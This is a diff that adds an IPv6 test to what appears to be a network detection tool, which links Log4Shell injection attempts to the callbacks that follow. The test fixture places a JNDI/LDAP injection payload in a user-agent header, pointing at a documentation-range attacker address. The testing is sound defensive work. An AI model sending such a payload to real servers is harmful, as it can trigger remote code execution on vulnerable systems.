@@ -80,3 +80,17 @@ def test_endpoint_round_trips_ipv4_and_ipv6():
     assert endpoint("10.0.0.5") == "10.0.0.5"
     assert [endpoint_ip(e) for e in ("10.0.0.5:8080", "[2001:db8::1]:443", "2001:db8::1")] == [
         "10.0.0.5", "2001:db8::1", "2001:db8::1"]
+
+
+def test_ipv6_victim_and_callback_are_bracketed():
+    hooks = Hooks()
+    web = hooks.conn("2001:db8::7", 0, "2001:db8::5", 8080)
+    hooks.event(web, HttpRequest(ts_ns=hooks.tick(), method="GET", uri="/", version="1.1",
+                                 headers=[("user-agent", "${jndi:ldap://[2001:db8::7]:1389/a}")]))
+    hooks.end(web)
+    hooks.end(hooks.conn("2001:db8::5", 0, "2001:db8::7", 1389))
+    [chain] = chains(hooks.notices)
+    assert (chain.victim, chain.callback, chain.victim_ip) == (
+        "[2001:db8::5]:8080", "[2001:db8::7]:1389", "2001:db8::5")
+    assert [n.note.split("::")[1] for n in chain.notices] == [
+        "LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK"]
